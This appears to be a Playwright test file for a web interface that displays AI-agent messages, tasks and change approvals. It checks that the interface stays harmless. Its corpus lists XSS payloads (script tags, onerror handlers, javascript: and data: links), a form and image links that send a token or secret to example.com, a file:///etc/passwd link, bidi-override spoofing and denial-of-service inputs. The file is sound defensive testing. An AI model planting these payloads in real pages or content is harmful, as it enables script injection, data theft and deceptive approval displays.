import type { Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { createStage } from './support/open-page.ts'
import { conversationId, sampleApproval, sampleMessage, sampleSnapshot, sampleTask } from './support/samples.ts'

const stage = await createStage(t)

const corpus = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><a href="javascript:window.hacked=1">x</a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://example.com/steal"><input name="token"><button>Approve</button></form>',
  '[click](javascript:window.hacked=1)',
  '[click](JaVaScRiPt&colon;window.hacked=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)',
  '[click](vbscript:x) [click](file:///etc/passwd) [click](/v1/approvals/appr-1)',
  '<javascript:window.hacked=1>',
  '![secret](https://example.com/leak.png?q=secret)',
  '[![secret](https://example.com/leak2.png)](https://example.com/)',
  '![x](javascript:window.hacked=1) ![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[ref]\n\n[ref]: javascript:window.hacked=1 "x"',
  '| a |\n|---|\n| <img src=x onerror=window.hacked=1> |',
  '```html\n<script>window.hacked = 1</script>\n```',
  '`<img src=x onerror=window.hacked=1>`',
  '# <b onmouseover=window.hacked=1>heading</b>',
  '> '.repeat(4_000) + 'deep',
  '- '.repeat(500) + 'deep',
  '*'.repeat(20_000),
  '['.repeat(5_000) + 'x' + '](y)'.repeat(5_000),
  'a.'.repeat(50_000) + '@b',
  '_a_b'.repeat(20_000),
  'https://example.com/' + 'a'.repeat(5_000),
  '\u202egnp.exe \u0000 \ufeff'
]

t.test('nothing a model, a tool or a file says becomes a script, a form, an image or a request', async (t) => {
  const { server, open } = await stage(t)
  const task = sampleTask({
    title: '<img src=x onerror=window.hacked=1>',
    status: 'awaiting_approval',
    started: 9,
    ended: 3,
    more: {
      error: { code: 'CTX_X', message: '<script>window.hacked=1</script>' },
      result: { summary: corpus[1]!, evidence: [{ claim: corpus[0]!, detail: corpus[1]! }], report: corpus.slice(0, 18).join('\n\n') }
    }
  })
  const approval = sampleApproval(task, {
    summary: `${corpus[0]!}\u202e`,
    dry_run: corpus[1]!,
    changes: [{ toolkit: 'gitops', target: 'plain.md', verb: 'create', risk: 'low', diff: '--- /dev/null\n+++ b/plain.md\n@@ -0,0 +1 @@\n+only\uFE00 words\n' }, { toolkit: 'gitops', target: '../../etc/\u202ecod.yaml', verb: 'update', risk: 'high', diff: '--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-a\n+<script>window.hacked=1</script>\n+access = "user\u202e \u2066// only admins\u2069 \u2066"\n' }]
  })
  server.snapshots.set(conversationId, { ...sampleSnapshot(), title: '<script>window.hacked=1</script>', messages: corpus.map((text, index) => sampleMessage(index % 2 ? 'user' : 'assistant', text)), tasks: [task], approvals: [approval] })
  server.logs.set(task.id, { task_id: task.id, from: 0, total: 1, lines: [{ at: '', level: 'info', attempt: 1, message: '<img src=x onerror=window.hacked=1> \u001b]8;;javascript:1\u0007' }] })

  server.approvals = [approval]
  server.tasks = [task, { ...sampleTask({ title: corpus[0]!, status: 'failed', started: 9, ended: 3 }), error: { code: 'CTX_X', message: corpus[1]! } }]
  const page = await open(t, { path: `/c/${conversationId}?task=${task.id}` })
  const origin = new URL(page.url()).origin
  const foreign: string[] = []
  page.on('request', (request) => { if (!request.url().startsWith(origin)) foreign.push(request.url()) })
  await page.getByText('access = "user⟨U+202E⟩').waitFor()

  await assertHarmless(t, page)
  const links = await page.locator('#root a:not([download])').evaluateAll((all) => all.map((link) => ({ href: link.getAttribute('href') ?? '', rel: link.getAttribute('rel') })))
  t.ok(links.length > 0)
  for (const { href, rel } of links) t.ok(/^(https?|mailto):/.test(href) && rel?.includes('noopener'), href.slice(0, 80))
  await page.getByText('only⟨U+FE00⟩ words').waitFor()
  t.strictSame(await page.locator('figcaption').evaluateAll((all) => all.map((caption) => caption.textContent?.match(/(?:Low|Medium|High) risk/)?.[0])), ['Low risk', 'High risk'], 'each change has its own, where they differ')
  await page.getByText('⟨U+202E⟩cod.yaml').waitFor()
  for (const path of ['approvals', 'tasks', 'history']) {
    await page.goto(`${server.url}/${path}`)
    await page.getByRole('main').getByText('window.hacked').first().waitFor()
    await assertHarmless(t, page)
  }
  t.same(foreign, [])
})

async function assertHarmless (t: Test, page: Page): Promise<void> {
  t.equal(await page.evaluate(() => (window as { hacked?: unknown }).hacked), undefined)
  t.equal(await page.locator('#root :is(script, img, iframe, object, embed, style, link, form form, form[action], svg a)').count(), 0)
  t.same(await page.evaluate(() => [...document.querySelectorAll('#root *')].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on')))), [])
  t.same(await page.evaluate(() => [...document.querySelectorAll('[aria-label], legend')].map((element) => element.ariaLabel ?? element.textContent).filter((label) => label?.includes('\u202e'))), [], 'what is read aloud hides nothing either')
}

t.test('two thousand events of sixty tasks are drawn in batches, the last of each task stands, and so many icons do not turn', async (t) => {
  const { server, open } = await stage(t)
  const page = await open(t, { more: { reducedMotion: 'no-preference' } })
  await page.getByText('Live').waitFor()
  const turning = () => page.evaluate(() => document.getAnimations().length)
  t.ok(await turning() > 0, 'those of a few tasks do')
  const tasks = Array.from({ length: 60 }, (_, index) => sampleTask({ title: `Task ${index}`, status: 'in_progress', started: 5, master: ['infrastructure-master', 'security-master', 'cicd-master'][index % 3]! }))
  server.snapshots.set(conversationId, { ...sampleSnapshot(), tasks, approvals: [], messages: [] })
  await page.reload()
  await page.getByText('Task 59').first().waitFor()
  t.equal(await turning(), 0)
  await page.getByText('Live').waitFor()
  await page.evaluate(() => {
    const watch = window as { drawn?: number }
    watch.drawn = 0
    new MutationObserver(() => { watch.drawn = (watch.drawn ?? 0) + 1 }).observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true })
  })
  const rounds = 40
  const moving = tasks.slice(0, 50)
  for (let round = 1; round <= rounds; round++) {
    server.send(conversationId, ...moving.map((task) => ({ type: 'task' as const, task: { ...task, rev: round + 1, progress: { percent: round * 2, step: `Step ${round}` } } })))
  }
  for (const task of moving) await page.locator(`[data-task-id="${task.id}"]`).first().getByText('80%').waitFor()
  const drawn = await page.evaluate(() => (window as { drawn?: number }).drawn ?? 0)
  t.ok(drawn < rounds * moving.length / 10, `drawn ${drawn} times for ${rounds * moving.length} events`)
})
